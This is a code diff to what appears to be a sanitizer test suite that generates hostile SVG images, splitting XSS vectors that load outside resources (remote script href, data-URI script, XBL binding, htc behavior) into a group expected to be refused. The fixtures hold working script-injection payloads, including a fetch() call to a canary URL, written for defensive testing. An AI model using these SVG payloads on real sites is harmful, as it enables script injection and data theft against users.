@@ -11,8 +11,6 @@ function activeContent({ httpUrl }: Canary): Record<string, string> {
   return {
     "a script": `<script>${call}</script>`,
     "a script in CDATA": `<script><![CDATA[${call}]]></script>`,
-    "a script from elsewhere": `<script href="${httpUrl}/${MARK}.js"/>`,
-    "a script in a data URI": `<script href="data:text/javascript,${call}"/>`,
     "a script under a prefix": `<s:script xmlns:s="http://www.w3.org/2000/svg">${call}</s:script>`,
     "a script in a nested SVG": `<svg onload="${call}"><script>${call}</script></svg>`,
     "a script in a text": `<text y="50">x<script>${call}</script></text>`,
@@ -29,8 +27,17 @@ function activeContent({ httpUrl }: Canary): Record<string, string> {
     "a foreign body": `<foreignObject><body ${html} onload="${call}"><script>${call}</script></body></foreignObject>`,
     "a foreign object in a switch": `<switch><foreignObject requiredExtensions="x"><p ${html}>${MARK}</p></foreignObject><g>${SHAPE}</g></switch>`,
     "an iframe": `<iframe ${html} srcdoc="&lt;script>${call}&lt;/script>"/>`,
-    "an XBL binding": `<style>rect{-moz-binding:url(${httpUrl}/x.xml#${MARK})}</style>`,
     "a CSS expression": `<style>rect{width:expression(${call.replaceAll("'", "")})}</style>`,
+  };
+}
+
+/** The same, referring to something outside of the document. */
+function outwardContent({ httpUrl }: Canary): Record<string, string> {
+  const call = `fetch('${httpUrl}/script-${MARK}')`;
+  return {
+    "a script from elsewhere": `<script href="${httpUrl}/${MARK}.js"/>`,
+    "a script in a data URI": `<script href="data:text/javascript,${call}"/>`,
+    "an XBL binding": `<style>rect{-moz-binding:url(${httpUrl}/x.xml#${MARK})}</style>`,
     "a behavior": `<rect style="behavior:url(${httpUrl}/x.htc)" width="9" height="9"/>`,
   };
 }
@@ -70,8 +77,13 @@ function disguised(canary: Canary): HostileImage[] {
 }
 
 export function svgScripts(canary: Canary): HostileImage[] {
-  const active = Object.entries(activeContent(canary)).map(([name, content]) =>
-    svg("drawn", name, svgDocument(SHAPE + content)),
-  );
-  return [...active, ...disguised(canary)];
+  const each = (outcome: HostileImage["outcome"], contents: Record<string, string>) =>
+    Object.entries(contents).map(([name, content]) =>
+      svg(outcome, name, svgDocument(SHAPE + content)),
+    );
+  return [
+    ...each("drawn", activeContent(canary)),
+    ...each("refused", outwardContent(canary)),
+    ...disguised(canary),
+  ];
 }
